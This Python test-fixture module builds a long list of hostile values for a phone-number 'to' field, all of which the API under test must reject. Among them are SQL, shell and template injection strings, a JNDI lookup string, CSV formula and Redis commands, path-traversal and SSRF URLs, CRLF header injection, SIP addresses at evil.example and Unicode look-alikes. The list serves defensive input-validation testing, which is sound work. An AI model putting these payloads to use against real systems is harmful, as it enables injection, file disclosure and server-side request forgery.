"""Values of `to` that must all be refused: a list for every test that faces a caller.

With any `country` whose numbers are longer than six digits, or with none. All but the huge ones (which are
`invalid_request`) answer `invalid_number` or `short_code`; none is merely ambiguous.
"""

from __future__ import annotations

_NUMBER = "+14155550100"
_NATIONAL = "4155550100"

_INJECTIONS = [
    *(f"{_NUMBER}{tail}" for tail in (
        "'", "\"", "' OR '1'='1", "'; DROP TABLE intents;--", "\" OR 1=1#", "`id`", "$(id)", "${7*7}", "{{7*7}}",
        "<%= 7 %>", "|cat /etc/passwd", ";ls", "&&whoami", "||true", ">out", "<in", "\\", "\\n", "%00", "%0d%0a",
        "%2B", "%252e", "<script>alert(1)</script>", "<Say>hi</Say>", "</Number><Sip>", "]]>", "<!--", "-->",
        "&amp;", "&#43;", "\u0000", "*", "(|(uid=*))", "[]", "[0]", "{}", "{\"$gt\":\"\"}", ":1", "::", "=1", "==",
        "^", "~", "!", "@evil.example", "_",
    )),
    "' OR ''='", "1; SELECT 1", "1 UNION SELECT 1", "admin'--", "=cmd|' /C calc'!A0", "=1+1", "@SUM(1)", "-1+1",
    "+1+1", "eval(1)", "__import__('os')", "{{config}}", "${jndi:ldap://a.example/x}", "%s%s%s%n", "%x",
    "{0.__class__}", "<xml/>", "<!DOCTYPE a>", "EVAL \"return 1\" 0", "*1\r\n$4\r\nPING\r\n", "FLUSHALL\r\n",
    "{\"to\":1}", "[1]", "null", "true", "NaN", "Infinity", "-Infinity", "undefined", "None", "nil",
    "0x14155550100", "1e10", "1.0e+10",
]  # fmt: skip

_PATHS_AND_URLS = [
    "../" + _NATIONAL, "../../" + _NATIONAL, "..\\" + _NATIONAL, "/" + _NATIONAL, "//" + _NATIONAL,
    "./" + _NATIONAL, "../+14155550100", "+1/../415", "+14155550100/..", "+14155550100/../../Accounts",
    "+14155550100/Overrides", "+14155550100/", "+14155550100?Fields=caller_name", "+14155550100&Fields=sim_swap",
    "+14155550100#", "+14155550100;a", "+14155550100?", "+14155550100&", "?To=+14155550100", "/etc/passwd",
    "....//....//", "C:\\Windows", "file:///etc/passwd", "http://example.com", "https://example.com/+14155550100",
    "//example.com", "http://[::1]/", "http://127.0.0.1:6379", "javascript:alert(1)", "data:text/plain,1",
    "gopher://127.0.0.1", "ftp://example.com", "ldap://example.com", "%2e%2e%2f", "%2F14155550100",
    "+1415555%30100", "+1%20415%20555%200100", "415..5550100", "415//5550100", "415--5550100", "4155550100--",
    "4155550100//", "4155550100..", "-" + _NATIONAL, "--" + _NATIONAL, "." + _NATIONAL, ")" + _NATIONAL,
]  # fmt: skip

_CONTROL_CODES = [
    *range(0x20), 0x7F, 0x80, 0x85, 0x9F, 0xAD,
]  # fmt: skip
_INVISIBLE_CODES = [
    0x061C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E,
    0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFF9, 0xE0001, 0xE0031, 0xE000, 0xFFFE, 0x10FFFF,
    0xD800, 0xDFFF,
]  # fmt: skip
_CONTROL = [
    *(f"+1415{chr(code)}5550100" for code in (*_CONTROL_CODES, *_INVISIBLE_CODES)),
    *(f"{_NUMBER}{end}" for end in ("\n", "\r", "\r\n", "\t", "\r\nX-Evil: 1", "\n+14155550101", "\u202c", "\ufeff")),
    *(f"{start}{_NUMBER}" for start in ("\n", "\r\n", "\t", "\u0000", "\u202a", "\u202e", "\u2066", "\ufeff")),
]  # fmt: skip

_LOOK_ALIKES = [
    "+l4155550100", "+I4155550100", "+14I55550100", "+1415555O1OO", "+1415555о100", "+１４１５５５５Ｏ１００",
    "+Ⅰ4155550100", "+①④①⑤⑤⑤⑤⓪①⓪⓪", "+¹⁴¹⁵⁵⁵⁵⁰¹⁰⁰", "+₁₄₁₅₅₅₅₀₁₀₀", "+½4155550100", "+㈠4155550100",
    "+一四一五五五五〇一〇〇", "+⒈4155550100", "+" + "".join(chr(0x1D7CE + int(d)) for d in _NUMBER[1:]),
    "+" + "".join(chr(0x1D7F6 + int(d)) for d in _NUMBER[1:]),
    "+" + "".join(chr(0x1FBF0 + int(d)) for d in _NUMBER[1:]), "⁺14155550100", "₊14155550100", "﬩14155550100",
    "➕14155550100", "†14155550100", "±14155550100", "1️⃣4️⃣1️⃣5️⃣", "+1415\u03015550100", "+1415\u20e35550100",
    "+1415·5550100", "+1415•5550100", "+1415˙5550100", "+1415_5550100", "+1415=5550100", "+1415:5550100",
    "+1415|5550100", "+1415\\5550100", "+1415×5550100",
]  # fmt: skip

_WORDS = [
    "1-800-FLOWERS", "1-800-COLLECT", "+1-800-GOFEDEX", "+1 415 555 CALL", "415-555-HELP", "hello", "STOP",
    "call me", "a", "Z", "anonymous", "unknown", "Restricted", "+anonymous", "tel:", "tel:abc", "tel:+",
    "tel:tel:+14155550100", "привет", "مرحبا", "电话", "電話番号", "전화", "हिन्दी", "ไทย", "ελληνικά", "עברית",
    "ß", "Ａ", "ﬀ", "İ", "📞", "☎14155550100", "+1🙂4155550100", "👨‍👩‍👧", "😀" * 16, "🇺🇸", "♥", "™", "–", "+",
    "++", "-", ".", "()", "(+)", "+-", "+ ", " ", "\u00a0", "\u3000", "", "#", "*", ",", ";",
]  # fmt: skip

_OTHER_KINDS = [
    "whatsapp:+14155550100", "WhatsApp:+14155550100", "whatsapp:", "messenger:1234567890", "rcs:+14155550100",
    "sms:+14155550100", "client:alice", "client:+14155550100", "mailto:ann@example.com", "ann@example.com",
    "+14155550100@example.com", "sip:", "sip:bob@evil.example", "sip:bob@127.0.0.1", "sip:bob@localhost",
    "sip:bob", "sip:@evil.example", "sips:bob@evil.example", "sip:bob@evil.example;transport=tls",
    "sip:bob@evil.example?x-a=b", "sip:bob:pw@evil.example", "sip:bob@evil.example:0", "sip:b ob@evil.example",
    "sip:bob@evil.example\r\nX: 1", "SIP:BOB@EVIL.EXAMPLE", "sip:%62ob@evil.example", "sip:bob@[::1]",
    "sip:bob@a@evil.example", "sip:bob@evil.example/", "sip:bob@evil.example:99999", "sip:<bob@evil.example>",
    " sip:bob@a.example",
]  # fmt: skip

_EXTENSIONS = [
    *(f"{_NUMBER}{tail}" for tail in (
        "x1", " x123", "X123", " ext 1", " ext. 123", ";ext=12", " extension 5", "#12", " # 12", ",1", ",,1234",
        ";1", " xt 9", "w1", "p1", " ext12#", "/x2", "(x2)", " доб. 12", " anexo 4",
    )),
    "tel:+14155550100;ext=1", "tel:4155550100;phone-context=+1", "tel:4155550100;isub=1", "*67" + _NATIONAL,
    "#31#" + _NATIONAL, "*#06#", "*21*4155550100#", "##002#",
]  # fmt: skip

_SHORT_AND_EMERGENCY = [
    "911", "112", "999", "000", "110", "119", "118", "100", "101", "102", "108", "15", "17", "18", "9 1 1",
    "9-1-1", "+1 911", "+1911", "+44 999", "+44112", "+49 110", "+49112", "+61 000", "+33 112", "+81 119",
    "+91 112", "tel:911", "９１１", "٩١١", "०००", "411", "611", "311", "511", "711", "811", "988", "12345",
    "72345", "24273", "222333", "7726", "40404", "88-22-99", "(123)", "123456", "62582", "898882", "0800", "1",
    "0", "00",
]  # fmt: skip

_IMPOSSIBLE = [
    "+0", "+1", "+12", "+123", "+1415", "+1415555", "+141555501", "+0014155550100", "+004155550100",
    "+99912345678", "+21012345678", "+80", "+800", "+8001", "+88012", "+4420", "+4477009", "+447700900123456",
    "+44770090012345678", "+1415555010", "+141555501001", "+14155550100123", "+141555501001234567890", "1" * 20,
    "9" * 64, "0" * 20, "+" + "1" * 20, "+" + "9" * 63, "+" + "0" * 11, "++14155550100", "+1+4155550100",
    "1+4155550100", "4155550100+", "+14155550100+", "+1 415 555 0100 +1 415 555 0101", "+14155550100,+14155550101",
    "+14155550100 / +14155550101", "+49 00301234567",
]  # fmt: skip

_HUGE = [
    "1" * 65, "+" + "1" * 10_000, "a" * 10_000, " " * 65, "\u0000" * 100, "📞" * 100, "(" * 10_000,
    "+1415555" + "0" * 10_000, "-" * 200, "4155550100" + " " * 100, "\u202e" * 70, "x" * 1_000_000, "../" * 500,
    "%00" * 500, "A" * 65,
]  # fmt: skip

HOSTILE_TO: list[str] = list(
    dict.fromkeys(
        _INJECTIONS
        + _PATHS_AND_URLS
        + _CONTROL
        + _LOOK_ALIKES
        + _WORDS
        + _OTHER_KINDS
        + _EXTENSIONS
        + _SHORT_AND_EMERGENCY
        + _IMPOSSIBLE
        + _HUGE
    )
)
